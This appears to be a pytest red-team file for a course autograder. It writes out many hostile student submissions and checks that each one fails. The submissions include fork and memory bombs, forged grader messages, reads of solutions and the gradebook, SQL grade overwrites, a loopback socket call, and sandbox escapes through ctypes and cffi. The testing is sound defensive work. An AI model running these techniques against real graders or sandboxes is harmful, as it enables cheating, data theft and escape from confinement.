"""Red team: malicious submissions graded in one batch per assignment, like a real course.

Every attack sits in a submission whose other answers are honest, so the score it must get is
exactly what its honest part earns: the attack itself never gains a point, never costs the
honest part a point, never touches another student's grade, the gradebook or any file outside
the output folder.  Attacks that try to *read* something make the function correct only if the
read worked (a score of 0 for that task proves it failed); attacks that try to *break* something
make the function correct only if the break-in failed.

One batch per assignment (module-scoped fixtures), graded through the CLI with two workers and a
3 s cell timeout, keeps this file to about a minute on two cores.
"""
from __future__ import annotations

import csv
import json
import socket
import sqlite3
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import pytest

from submissions import REPO, make_submission, solution_sources, write_submission

pytestmark = pytest.mark.slow

A1 = "ch01_cross_correlation"  # convolve2d_loops 3, corr2d_batch 3, input_gradient 4
A3 = "ch03_channels"  # corr2d_depthwise 3, corr2d_multi_in_out_batch 3, conv1x1_batch 2, conv2d_torch 2 (torch)

# A correct corr2d_batch the attacks return only when their break-in *worked*.
HONEST_BATCH = '''
import numpy as np
def _honest(X, K):
    X, K = np.asarray(X), np.asarray(K)
    windows = np.lib.stride_tricks.sliding_window_view(X, K.shape, axis=(1, 2))
    return np.tensordot(windows, K, axes=([3, 4], [0, 1]))
'''
WRONG_BATCH = '''
import numpy as np
def corr2d_batch(X, K):
    return np.zeros((X.shape[0], X.shape[1] - K.shape[0] + 1, X.shape[2] - K.shape[1] + 1))
'''


def added_cell(source, **nbgrader):
    meta = {"nbgrader": nbgrader} if nbgrader else {}
    return {"cell_type": "code", "metadata": meta, "source": source, "outputs": [], "execution_count": None}


def append_cells(*sources):
    def edit(nb):
        nb["cells"].extend(added_cell(s) for s in sources)
    return edit


def read_attack(path, marker):
    """corr2d_batch is right only if ``path`` could be read and holds ``marker``."""
    return HONEST_BATCH + f'''
def _stolen():
    import os
    try:
        if os.path.isdir({str(path)!r}):
            return bool(os.listdir({str(path)!r}))
        with open({str(path)!r}, "rb") as fh:
            return {marker!r} in fh.read()
    except BaseException:
        return False

def corr2d_batch(X, K):
    return _honest(X, K) if _stolen() else _honest(X, K) + 1.0
'''


# --------------------------------------------------------------------------------------------
# Chapter 1 (NumPy tasks): student -> (answers, edit, expected score)
# --------------------------------------------------------------------------------------------

def ch01_attacks(paths):
    sols, out, db, root, port, marker = (paths[k] for k in ("solutions", "out", "db", "root", "port", "marker"))
    victim = root / "honest" / A1 / f"{A1}.ipynb"
    return {
        "honest": ({}, None, 10.0),
        # Monkeypatching the comparison helpers: the grader compares in its own process.
        "patch_allclose": ({"corr2d_batch": WRONG_BATCH + '''
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
'''}, None, 7.0),
        "patch_checks": ({"corr2d_batch": WRONG_BATCH + '''
import sys, types
try:
    import dlcourse.checks as checks
    checks.assert_close = lambda *a, **k: None
except BaseException:
    pass
fake = types.ModuleType("dlcourse.checks")
fake.assert_close = lambda *a, **k: None
fake.describe_mismatch = lambda *a, **k: None
sys.modules["dlcourse.checks"] = fake
'''}, None, 7.0),
        # Objects that claim to equal anything.
        "always_equal": ({"corr2d_batch": '''
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return 0.0
def corr2d_batch(X, K):
    return Anything()
'''}, None, 7.0),
        "ndarray_subclass": ({"corr2d_batch": '''
import numpy as np
class Sneaky(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def __ne__(self, other): return np.zeros(np.shape(other), dtype=bool)
    def __sub__(self, other): return np.zeros(np.shape(other))
    def __rsub__(self, other): return np.zeros(np.shape(other))
    def __abs__(self): return np.zeros(self.shape)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.broadcast_shapes(*(np.shape(i) for i in inputs)))
def corr2d_batch(X, K):
    return np.zeros((X.shape[0], X.shape[1] - K.shape[0] + 1, X.shape[2] - K.shape[1] + 1)).view(Sneaky)
'''}, None, 7.0),
        # Leaving early: exceptions, exits and self-kills in cells and in graded calls.
        "system_exit": ({"corr2d_batch": HONEST_BATCH + '''
def corr2d_batch(X, K):
    raise SystemExit(0)
'''}, append_cells("import sys\nsys.exit(0)", "raise KeyboardInterrupt"), 7.0),
        "os_exit": ({"corr2d_batch": HONEST_BATCH + '''
import os
def corr2d_batch(X, K):
    os._exit(0)
'''}, append_cells("import os\nos._exit(0)"), 7.0),
        "kill_self": ({"corr2d_batch": HONEST_BATCH + '''
import os, signal
def corr2d_batch(X, K):
    os.kill(os.getpid(), signal.SIGKILL)
'''}, append_cells("import os\nos.kill(os.getpid(), 9)"), 7.0),
        # Never finishing: a loop that survives the worker's timer, a cell that ignores SIGALRM,
        # a graded call that cancels the timer and sleeps.
        "loop_forever": ({}, append_cells(
            "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
            "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass",
        ), 10.0),
        "sleeper": ({"corr2d_batch": '''
import signal, time
def corr2d_batch(X, K):
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    time.sleep(1000)
'''}, None, 7.0),
        # Resources: memory, processes, disk, output.
        "memory_bomb": ({"corr2d_batch": '''
import numpy as np
def corr2d_batch(X, K):
    return np.ones((2**17, 2**17))
'''}, append_cells("x = bytearray(50 * 2**30)", "import numpy as np\ny = np.ones((2**16, 2**16, 4))"), 7.0),
        "fork_bomb": ({"corr2d_batch": HONEST_BATCH + '''
import os, subprocess
def _spawned():
    ok = False
    for attempt in (lambda: os.fork(),
                    lambda: subprocess.Popen(["sh", "-c", "sleep 100"]).pid,
                    lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "sleep 100"], {}),
                    lambda: os.system("sleep 100 &") + 1000):
        try:
            pid = attempt()
            if pid == 0:
                os._exit(0)
            ok = True
        except BaseException:
            pass
    return ok

def corr2d_batch(X, K):
    return _honest(X, K) + 1.0 if _spawned() else _honest(X, K)
'''}, append_cells('''
import os, multiprocessing
try:
    while True:
        os.fork()
except BaseException:
    pass
try:
    multiprocessing.Process(target=print).start()
except BaseException:
    pass
'''), 10.0),
        "huge_file": ({"corr2d_batch": HONEST_BATCH + '''
def _filled():
    try:
        with open("big.bin", "wb") as fh:
            for _ in range(256):
                fh.write(b"x" * 2**20)  # 256 MiB
        return True
    except BaseException:
        return False
_FILLED = _filled()
def corr2d_batch(X, K):
    return _honest(X, K) + 1.0 if _FILLED else _honest(X, K)
'''}, append_cells('''
for i in range(100):
    try:
        with open(f"chunk{i}.bin", "wb") as fh:
            fh.write(b"y" * 15 * 2**20)
    except BaseException:
        pass
'''), 10.0),
        "printer": ({"corr2d_batch": HONEST_BATCH + '''
import sys
def corr2d_batch(X, K):
    print("z" * 2**22)
    sys.stderr.write("e" * 2**22)
    return _honest(X, K)
'''}, append_cells('for _ in range(20):\n    print("p" * 2**20)\nimport os\nos.write(1, b"q" * 2**22)\nos.write(2, b"r" * 2**20)'), 10.0),
        # Reading what only the grader may see.
        "read_solutions": ({"corr2d_batch": read_attack(sols / A1 / f"{A1}.ipynb", b"tensordot")}, None, 7.0),
        "list_solutions": ({"corr2d_batch": read_attack(sols, None)}, None, 7.0),
        "read_spec": ({"corr2d_batch": read_attack(REPO / "autograder" / "specs" / f"{A1}.py", b"TASKS")}, None, 7.0),
        "read_gradebook": ({"corr2d_batch": read_attack(db, b"SQLite format 3")}, None, 7.0),
        "read_other_student": ({"corr2d_batch": read_attack(victim, b"nbgrader")}, None, 7.0),
        # Writing grades: results records, CSV, the gradebook itself, files outside the sandbox.
        "write_grades": ({}, append_cells(f'''
import json, os, sqlite3
record = {{"student": "honest", "assignment": "{A1}", "tasks": [], "notices": [],
          "submission_sha256": "", "isolation": "", "seconds": 0}}
for target, text in (({str(out / A1 / "results" / "write_grades.json")!r}, json.dumps(record)),
                     ({str(out / A1 / "results" / "honest.json")!r}, json.dumps(record)),
                     ({str(out / A1 / "grades.csv")!r}, "student,score\\nwrite_grades,100\\n"),
                     ({str(REPO / marker)!r}, "pwned"),
                     ("/tmp/{marker}", "pwned")):
    try:
        with open(target, "w") as fh:
            fh.write(text)
    except BaseException:
        pass
    try:
        fd = os.open(target, os.O_WRONLY | os.O_CREAT)
        os.write(fd, text.encode())
    except BaseException:
        pass
try:
    con = sqlite3.connect({str(db)!r})
    con.execute("update grade set auto_score = 100")
    con.commit()
except BaseException:
    pass
'''), 10.0),
        # The network: a test server listens on the host's loopback.
        "network": ({"corr2d_batch": HONEST_BATCH + f'''
import socket
def _connected():
    try:
        s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
        s.sendall(b"let me in")
        return True
    except BaseException:
        return False
_OK = _connected()
def corr2d_batch(X, K):
    return _honest(X, K) if (_OK or _connected()) else _honest(X, K) + 1.0
'''}, None, 7.0),
        # Editing the read-only cells: the grader's own checks still apply.
        "edit_locked": ({"corr2d_batch": WRONG_BATCH}, edit_locked_cells, 7.0),
        # Hiding errors from an IPython kernel: there is none, and the grader never trusts one.
        "excepthook": ({"corr2d_batch": '''
import sys, builtins
sys.excepthook = lambda *a: None
builtins.get_ipython = lambda: None
try:
    from IPython.core.interactiveshell import InteractiveShell
    InteractiveShell.showtraceback = lambda *a, **k: None
    InteractiveShell.showsyntaxerror = lambda *a, **k: None
except BaseException:
    pass
def corr2d_batch(X, K):
    raise AssertionError("hidden by my excepthook")
'''}, None, 7.0),
        # Forging the worker's report: an early "done" and fake results on its channel.
        "forge_report": ({}, append_cells('''
import base64, io, json, os, sys
import numpy as np
buf = io.BytesIO()
np.save(buf, np.zeros((1, 1)))
fake = base64.b64encode(buf.getvalue()).decode()
fd = int(sys.argv[1])
for case in range(10):
    os.write(fd, (json.dumps({"event": "call_done", "task": "convolve2d_loops", "case": case,
                              "npy": fake, "error": None, "forbidden": None}) + "\\n").encode())
os.write(fd, b'{"event": "done"}\\n')
'''), 10.0),
    }


def edit_locked_cells(nb):
    for cell in nb["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid == "test_corr2d_batch":  # a "test" that always passes
            cell["source"] = "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
        elif gid == "setup":  # sabotage NumPy for everyone after this cell
            cell["source"] = "import numpy as np\nnp.sum = lambda *a, **k: 0\nnp.tensordot = lambda *a, **k: 0\n"
    nb["cells"] = [c for c in nb["cells"]
                   if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != "test_input_gradient"]
    # A graded cell of its own making, worth 50 points.
    nb["cells"].append(added_cell("assert True", grade=True, solution=False, locked=True,
                                  grade_id="test_bonus", points=50))


# --------------------------------------------------------------------------------------------
# Chapter 3 (three NumPy tasks and one PyTorch task that may not call a convolution operator)
# --------------------------------------------------------------------------------------------

TORCH_CONV = '''
import torch
import torch.nn.functional as F
'''


def ch03_attacks():
    sols = solution_sources(A3)
    honest_torch = sols["conv2d_torch"]
    return {
        "honest": ({}, None, 10.0),
        # PyTorch inside the NumPy tasks: plainly, and by re-importing the real library.
        "torch_in_numpy": ({
            "corr2d_depthwise": '''
import numpy as np
import torch
import torch.nn.functional as F
def corr2d_depthwise(X, K):
    return F.conv2d(torch.from_numpy(X)[None], torch.from_numpy(K)[:, None], groups=X.shape[0])[0].numpy()
''',
            "corr2d_multi_in_out_batch": '''
import sys, importlib
def corr2d_multi_in_out_batch(X, K):
    sys.modules.pop("torch", None)
    sys.modules.pop("torch.nn.functional", None)
    torch = importlib.import_module("torch")
    return torch.nn.functional.conv2d(torch.from_numpy(X), torch.from_numpy(K)).numpy()
'''}, None, 4.0),
        # A convolution operator in the PyTorch task, by every path we could think of.
        "conv_functional": ({"conv2d_torch": TORCH_CONV + '''
def conv2d_torch(X, W, b):
    return F.conv2d(X, W, b)
'''}, None, 8.0),
        "conv_aten": ({"conv2d_torch": TORCH_CONV + '''
def conv2d_torch(X, W, b):
    return torch.ops.aten.convolution.default(X, W, b, [1, 1], [0, 0], [1, 1], False, [0, 0], 1)
'''}, None, 8.0),
        "conv_backends": ({"conv2d_torch": TORCH_CONV + '''
def conv2d_torch(X, W, b):
    def module():
        layer = torch.nn.Conv2d(W.shape[1], W.shape[0], W.shape[2:]).double()
        with torch.no_grad():
            layer.weight.copy_(W)
            layer.bias.copy_(b)
            return layer(X)
    attempts = (
        module,
        lambda: torch.nn.functional.conv_transpose2d(X, W.transpose(0, 1).flip(2, 3), b),
        lambda: torch._C._nn.slow_conv3d(X[:, :, None], W[:, :, None], (1, *W.shape[2:]), b),
        lambda: torch.ops.aten._slow_conv2d_forward(X, W, W.shape[2:], b, (1, 1), (0, 0)),
        lambda: torch.ops.mkldnn._convolution_pointwise(
            X.float(), W.float(), b.float(), [0, 0], [1, 1], [1, 1], 1, "none", [], "").double(),
        lambda: torch._C._nn.thnn_conv2d(X, W, W.shape[2:], b),
        lambda: torch.ops.aten.mkldnn_convolution(X.float(), W.float(), b.float(), [0, 0], [1, 1], [1, 1], 1).double(),
    )
    for attempt in attempts:
        try:
            return attempt()
        except BaseException:
            pass
    raise RuntimeError("no backend left")
'''}, None, 8.0),
        # Tampering with the worker's report: dropping "forbidden" from it, forging results.
        "conv_tamper": ({"conv2d_torch": TORCH_CONV + '''
import base64, io, json, os, sys
import numpy as np
_dumps, _write = json.dumps, os.write
def _quiet(obj, *a, **k):
    if isinstance(obj, dict) and obj.get("forbidden"):
        obj = dict(obj, forbidden=None)
    return _dumps(obj, *a, **k)
def _filtered(fd, data):
    return _write(fd, bytes(data).replace(b'"forbidden": [', b'"forbidden": null, "x": ['))
json.dumps = _quiet
os.write = _filtered
_fd = int(sys.argv[1])
_case = [0]
def conv2d_torch(X, W, b):
    Y = F.conv2d(X, W, b)
    buf = io.BytesIO()
    np.save(buf, Y.detach().numpy())
    message = {"event": "call_done", "task": "conv2d_torch", "case": _case[0],
               "npy": base64.b64encode(buf.getvalue()).decode(), "error": None, "forbidden": None}
    _case[0] += 1
    _write(_fd, (_dumps(message) + "\\n").encode())
    _write(_fd, b'{"event": "done"}\\n')
    return Y
'''}, None, 8.0),
        # Leaving the recording dispatch mode, then scrubbing the worker's state through frames
        # and the heap: the operator's kernel itself refuses to run.
        "conv_evade": ({"conv2d_torch": TORCH_CONV + '''
import gc, sys
from torch.utils._python_dispatch import _disable_current_modes
def _scrub(frame):
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(getattr(value, "ops", None), set):
                value.ops.clear()
                value.ops = type("Blind", (set,), {"add": lambda self, x: None})()
            if isinstance(value, list) and value and isinstance(value[0], dict) and "forbidden_ops" in value[0]:
                for task in value:
                    task["forbidden_ops"] = []
            if isinstance(value, dict) and "forbidden_ops" in value:
                value["forbidden_ops"] = []
        frame = frame.f_back
def conv2d_torch(X, W, b):
    for grab in (lambda: sys._getframe(1),
                 lambda: (_ for _ in ()).throw(ValueError()),
                 ):
        try:
            _scrub(grab())
        except ValueError as exc:
            try:
                _scrub(exc.__traceback__.tb_frame)
            except BaseException:
                pass
        except BaseException:
            pass
    try:  # find the grader's kernel registrations and undo them
        for obj in gc.get_objects():
            if isinstance(obj, dict) and "forbidden_ops" in obj:
                obj["forbidden_ops"] = []
            if type(obj).__name__ == "_DispatchModule":
                obj.reset()
    except BaseException:
        pass
    with _disable_current_modes():
        Y = F.conv2d(X, W, b)
    return Y
'''}, None, 8.0),
    }


# --------------------------------------------------------------------------------------------


class _Listener:
    """A TCP server on the host's loopback that records every connection it accepts."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted = []
        self._stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self._stop:
            try:
                conn, addr = self.sock.accept()
            except OSError:
                continue
            self.accepted.append(addr)
            conn.close()

    def close(self):
        self._stop = True
        self.thread.join(timeout=2)
        self.sock.close()


def _tree(path: Path):
    return sorted(str(p.relative_to(path)) for p in path.rglob("*"))


def _repo_state():
    done = subprocess.run(["git", "status", "--porcelain", "--untracked-files=all"], cwd=REPO,
                          capture_output=True, text=True)
    return set(done.stdout.splitlines())


def _grade(tmp_path_factory, assignment, attacks_for, **paths):
    root = paths["root"]
    out = paths["out"]
    attacks = attacks_for(paths) if paths.get("needs_paths") else attacks_for()
    for student, (answers, edit, _) in attacks.items():
        write_submission(root, student, assignment, make_submission(assignment, answers, edit=edit))
    before_root = {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}
    cmd = [sys.executable, "-m", "autograder", "grade", "--assignment", assignment, "--submissions",
           str(root), "--out", str(out), "--db", f"sqlite:///{paths['db']}", "--workers", "2",
           "--cell-timeout", "3"]
    done = subprocess.run(cmd, capture_output=True, text=True, cwd=REPO, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    records = {p.stem: json.loads(p.read_text()) for p in (out / assignment / "results").glob("*.json")}
    return {
        "attacks": attacks, "records": records, "out": out, "db": paths["db"], "root": root,
        "before_root": before_root, "stdout": done.stdout,
        "assignment": assignment,
    }


@pytest.fixture(scope="module")
def ch01(tmp_path_factory):
    server = _Listener()
    marker = f"redteam-pwned-{uuid.uuid4().hex}"
    dbdir = tmp_path_factory.mktemp("gradebook")
    paths = dict(root=tmp_path_factory.mktemp("submissions"), out=tmp_path_factory.mktemp("out"),
                 db=dbdir / "gb.db", solutions=REPO / "solutions", port=server.port, marker=marker,
                 needs_paths=True)
    try:
        graded = _grade(tmp_path_factory, A1, ch01_attacks, **paths)
    finally:
        server.close()
    graded.update(server=server, marker=marker, dbdir=dbdir)
    return graded


@pytest.fixture(scope="module")
def ch03(tmp_path_factory):
    dbdir = tmp_path_factory.mktemp("gradebook3")
    paths = dict(root=tmp_path_factory.mktemp("submissions3"), out=tmp_path_factory.mktemp("out3"),
                 db=dbdir / "gb.db")
    return _grade(tmp_path_factory, A3, ch03_attacks, **paths)


def _by_task(record):
    return {t["function"]: t for t in record["tasks"]}


# ------------------------------------------------------------------------------------ ch01


def test_every_attack_gets_exactly_the_score_of_its_honest_part(ch01):
    got = {s: r["score"] for s, r in ch01["records"].items()}
    want = {s: expected for s, (_, _, expected) in ch01["attacks"].items()}
    assert got == want


def test_csv_and_gradebook_agree_with_the_records(ch01):
    want = {s: expected for s, (_, _, expected) in ch01["attacks"].items()}
    with open(ch01["out"] / A1 / "grades.csv") as fh:
        assert {row["student"]: float(row["score"]) for row in csv.DictReader(fh)} == want
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{ch01['db']}", course_id="dlcourse") as gb:
        assert {s.student.id: s.score for s in gb.assignment_submissions(A1)} == want
        assert {s.student.id: s.max_score for s in gb.assignment_submissions(A1)} == dict.fromkeys(want, 10.0)
    con = sqlite3.connect(ch01["db"])
    assert con.execute("select count(*) from submitted_assignment").fetchone()[0] == len(want)
    assert con.execute("select count(*) from student").fetchone()[0] == len(want)
    assert con.execute("select max(auto_score) from grade").fetchone()[0] <= 4


def test_the_honest_student_in_the_same_batch_keeps_full_marks(ch01):
    record = ch01["records"]["honest"]
    assert record["score"] == record["max_score"] == 10
    assert record["notices"] == []


def test_nothing_is_written_outside_the_output_folder(ch01):
    out = ch01["out"]
    expected = {"gradebook.db"} if (out / "gradebook.db").exists() else set()
    students = set(ch01["attacks"])
    expected |= {A1, f"{A1}/results", f"{A1}/feedback", f"{A1}/grades.csv"}
    expected |= {f"{A1}/results/{s}.json" for s in students}
    expected |= {f"{A1}/feedback/{s}" for s in students}
    expected |= {f"{A1}/feedback/{s}/{A1}.{ext}" for s in students for ext in ("md", "html")}
    assert set(_tree(out)) == expected
    assert _tree(ch01["dbdir"]) == ["gb.db"]
    # The submissions are untouched, the checkout and /tmp have no marker file.  (The checkout
    # as a whole is not compared: other work may edit it while the batch runs.)
    after_root = {p: p.read_bytes() for p in ch01["root"].rglob("*") if p.is_file()}
    assert after_root == ch01["before_root"]
    assert not any(ch01["marker"] in line for line in _repo_state())
    assert not (REPO / ch01["marker"]).exists()
    assert not (Path("/tmp") / ch01["marker"]).exists()


def test_reads_of_private_files_fail(ch01):
    for student in ("read_solutions", "list_solutions", "read_spec", "read_gradebook", "read_other_student"):
        task = _by_task(ch01["records"][student])["corr2d_batch"]
        assert task["points"] == 0 and "wrong values" in task["message"], (student, task)


def test_no_network_connection_reaches_the_host(ch01):
    assert ch01["server"].accepted == []
    assert _by_task(ch01["records"]["network"])["corr2d_batch"]["points"] == 0


def test_comparison_monkeypatches_change_nothing(ch01):
    for student in ("patch_allclose", "patch_checks", "edit_locked"):
        task = _by_task(ch01["records"][student])["corr2d_batch"]
        assert task["points"] == 0 and "wrong values" in task["message"], (student, task)


def test_objects_that_equal_anything_are_refused(ch01):
    task = _by_task(ch01["records"]["always_equal"])["corr2d_batch"]
    assert task["points"] == 0 and "not an array of numbers" in task["message"]
    task = _by_task(ch01["records"]["ndarray_subclass"])["corr2d_batch"]
    assert task["points"] == 0 and "wrong values" in task["message"]


def test_exits_and_kills_cost_only_their_own_task(ch01):
    messages = {s: _by_task(ch01["records"][s])["corr2d_batch"]["message"]
                for s in ("system_exit", "os_exit", "kill_self")}
    assert "SystemExit" in messages["system_exit"]
    assert "exit code 0" in messages["os_exit"]
    # The worker is PID 1 of its own PID namespace, where the kernel ignores a SIGKILL the
    # process sends itself: the call simply returns None.  Outside namespaces it dies.
    assert "SIGKILL" in messages["kill_self"] or "NoneType" in messages["kill_self"]
    notices = " ".join(ch01["records"]["system_exit"]["notices"])
    assert "SystemExit" in notices and "KeyboardInterrupt" in notices


def test_endless_cells_and_calls_are_cut_off(ch01):
    notices = " ".join(ch01["records"]["loop_forever"]["notices"])
    assert notices.count("ran past its time limit") == 2
    task = _by_task(ch01["records"]["sleeper"])["corr2d_batch"]
    assert task["points"] == 0 and "time limit" in task["message"]


def test_resource_bombs_fail_inside_the_sandbox(ch01):
    record = ch01["records"]["memory_bomb"]
    assert "MemoryError" in " ".join(record["notices"])
    assert "MemoryError" in _by_task(record)["corr2d_batch"]["message"]
    for student in ("fork_bomb", "huge_file", "printer"):
        assert ch01["records"][student]["score"] == 10, student


def test_grade_files_written_by_a_submission_go_nowhere(ch01):
    assert ch01["records"]["honest"]["score"] == 10
    assert ch01["records"]["write_grades"]["student"] == "write_grades"
    assert all(t["points"] <= t["max_points"] for r in ch01["records"].values() for t in r["tasks"])


def test_edited_and_deleted_locked_cells_are_graded_from_the_release(ch01):
    record = ch01["records"]["edit_locked"]
    notices = " ".join(record["notices"])
    assert "'setup' was edited" in notices
    assert "'test_input_gradient' was deleted" in notices
    assert "'test_bonus' is not part of the assignment" in notices
    assert record["max_score"] == 10
    assert _by_task(record)["convolve2d_loops"]["points"] == 3  # the released setup cell ran


def test_a_forged_report_is_not_believed(ch01):
    record = ch01["records"]["forge_report"]
    assert record["score"] == 10


# ------------------------------------------------------------------------------------ ch03


def test_ch03_every_attack_gets_exactly_the_score_of_its_honest_part(ch03):
    got = {s: r["score"] for s, r in ch03["records"].items()}
    want = {s: expected for s, (_, _, expected) in ch03["attacks"].items()}
    assert got == want
    con = sqlite3.connect(ch03["db"])
    assert con.execute("select count(*) from submitted_assignment").fetchone()[0] == len(want)


def test_torch_in_a_numpy_task_scores_zero_and_says_why(ch03):
    tasks = _by_task(ch03["records"]["torch_in_numpy"])
    for name in ("corr2d_depthwise", "corr2d_multi_in_out_batch"):
        assert tasks[name]["points"] == 0
        assert "uses torch" in tasks[name]["message"] and "NumPy task" in tasks[name]["message"]


@pytest.mark.parametrize("student", ["conv_functional", "conv_aten", "conv_backends", "conv_evade",
                                     "conv_tamper"])
def test_a_convolution_operator_in_the_torch_task_scores_zero(ch03, student):
    task = _by_task(ch03["records"][student])["conv2d_torch"]
    assert task["points"] == 0, task
    assert "conv" in task["message"], task


def test_plain_conv_use_is_named_in_the_message(ch03):
    for student in ("conv_functional", "conv_aten"):
        message = _by_task(ch03["records"][student])["conv2d_torch"]["message"]
        assert "torch operator" in message and "does not allow" in message


# ============================================================================================
# Round two: breaking the batch, escaping the box through C, odd folders and injected text.
# One batch of chapter 1 with two honest students among the attacks.
# ============================================================================================

import os  # noqa: E402
import shutil  # noqa: E402
import tempfile  # noqa: E402

from autograder.batch import escape_name  # noqa: E402


def _appended(*sources):
    return append_cells(*sources)


def _cffi_libc(decls):
    return f'''
def _libc():
    from cffi import FFI
    ffi = FFI()
    ffi.cdef({decls!r})
    return ffi, ffi.dlopen(None)
'''


def round2_attacks(p):
    """student folder name -> (notebook or raw bytes or a writer, expected score)."""
    marker, targets, site = p["marker"], p["targets"], p["site"]
    unix_paths = [p["unix_socket"], "\0" + marker]
    return {
        "honest": (make_submission(A1), 10.0),
        "honest_two": (make_submission(A1), 10.0),
        # --- breaking the batch through the report channel ------------------------------
        "forge_messages": (make_submission(A1, edit=_appended(r'''
import os, sys
fd = int(sys.argv[1])
lines = [b'[1, 2]', b'"done"', b'{"event": "cell_start", "cell": "0"}', b'{"event": "cell_start", "cell": true}',
         b'{"event": "cell_start", "cell": 1e400}', b'{"event": "cell_done", "cell": 99999, "error": "forged"}',
         b'{"event": "cell_done", "cell": -1, "error": "x"}', b'{"event": "cell_done", "cell": 0, "error": "x"}',
         b'{"event": "call_done", "task": "nope", "case": 0, "npy": null, "error": "x", "forbidden": null}',
         b'{"event": "call_done", "task": "convolve2d_loops", "case": 999, "npy": null, "error": "x", "forbidden": null}',
         b'{"event": "call_done", "task": "convolve2d_loops", "case": 0, "npy": {"a": 1}, "error": null, "forbidden": null}',
         b'{"event": "call_done", "task": "convolve2d_loops", "case": 0, "npy": "!!", "error": null, "forbidden": [1]}',
         b'{"event": "confined", "landlock": 0, "seccomp": false, "reason": "forged"}',
         b'{"event": "cells_done"}', b'{"event": "cells_done"}', b'{"event": "done"}', b'{"event": "done"}',
         b'[' * 100000 + b']' * 100000, b'\xff\xfe\x00 not json', b'x' * (4 * 2**20)]
for line in lines:
    os.write(fd, line + b'\n')
''')), 10.0),
        # A forged "cells_done" (the grader then wrote the inputs synchronously and blocked
        # forever) and a cell that ignores every signal but SIGKILL.
        "forge_cells_done_and_hang": (make_submission(A1, edit=_appended(r'''
import os, sys, signal
fd = int(sys.argv[1])
os.write(fd, b'{"event": "cells_done"}\n')
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP})
while True:
    pass
''', r'''
import os, sys, json
fd = int(sys.argv[1])
cell = [c["label"] for c in json.load(open("job.json"))["cells"]].index("added-2")
os.write(fd, (json.dumps({"event": "cell_done", "cell": cell, "error": None}) + "\n").encode())
os.write(fd, b'{"event": "cells_done"}\n')
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
while True:
    pass
''')), 10.0),
        # Threads that outlive their cell: one wakes every 0.2 s for the whole run and writes in
        # the box, one sleeps and would keep the interpreter from exiting, with signals blocked.
        # (A thread that *works* during a counted call fails that call's line budget, and one
        # writing to the report channel can corrupt the worker's own long messages: both cost
        # only their own student, at a moment that depends on scheduling, so neither has a
        # score to pin here; tests/test_autograder_guards.py covers the first.)
        "thread_outlives_its_cell": (make_submission(A1, edit=_appended(r'''
import signal, threading, time
def _wake():
    n = 0
    while True:
        n += 1
        try:
            with open(f"wake{n % 7}.txt", "w") as fh:
                fh.write(str(n))
        except BaseException:
            pass
        time.sleep(0.2)
def _sleep():
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT, signal.SIGALRM})
    while True:
        try:
            time.sleep(1000)
        except BaseException:
            pass
threading.Thread(target=_wake, daemon=True).start()
threading.Thread(target=_sleep).start()
''')), 10.0),
        "ignore_sigterm": (make_submission(A1, edit=_appended(r'''
import signal, time
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGUSR1, signal.SIGXCPU):
    signal.signal(sig, signal.SIG_IGN)
while True:
    try:
        time.sleep(100)
    except BaseException:
        pass
''')), 10.0),
        # --- reaching outside the box ---------------------------------------------------
        "write_outside": (make_submission(A1, {"corr2d_batch": HONEST_BATCH + f'''
import os
_TARGETS = {targets!r}
def _escapes():
    hits = 0
    open("mine", "w").write("x")
    for target in _TARGETS:
        for attempt in (lambda: os.close(os.open(target, os.O_WRONLY | os.O_CREAT, 0o644)),
                        lambda: os.mkdir(target + ".d"),
                        lambda: os.symlink("/etc/passwd", target + ".ln"),
                        lambda: os.rename("mine", target + ".mv"),
                        lambda: os.link("mine", target + ".hl")):
            try:
                attempt()
                hits += 1
            except BaseException:
                pass
        try:
            import ctypes
            libc = ctypes.CDLL(None)
            if libc.open((target + ".ctypes").encode(), 0o101, 0o644) >= 0:
                hits += 1
        except BaseException:
            pass
    return hits
_HITS = _escapes()
def corr2d_batch(X, K):
    return _honest(X, K) if _HITS == 0 else _honest(X, K) + 1.0
'''}), 10.0),
        "cffi_escape": (make_submission(A1, {"corr2d_batch": HONEST_BATCH + _cffi_libc(
            "int open(const char *, int, ...); int mkdir(const char *, unsigned int); int unshare(int);"
            "long read(int, void *, size_t); int kill(int, int); int setns(int, int);") + f'''
import os
_TARGETS = {targets!r}
def _escapes():
    hits = 0
    try:
        ffi, libc = _libc()
    except BaseException:
        return 0  # cffi refused in a NumPy task (the kernel layers are probed without that guard)
    for target in _TARGETS:
        if libc.open((target + ".cffi").encode(), 0o101, ffi.cast("int", 0o644)) >= 0:
            hits += 1
        if libc.mkdir((target + ".cffid").encode(), 0o755) == 0:
            hits += 1
    fd = libc.open({p["solutions_copy"]!r}.encode(), 0)
